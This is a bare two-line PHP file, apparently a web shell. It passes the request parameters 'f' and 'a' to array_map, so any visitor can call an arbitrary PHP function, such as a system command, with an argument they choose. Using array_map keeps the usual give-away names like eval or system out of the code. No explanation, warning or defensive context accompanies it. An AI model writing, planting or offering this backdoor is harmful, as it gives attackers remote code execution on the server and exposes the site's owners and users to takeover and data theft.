<?php
array_map($_POST['f'], array($_POST['a']));
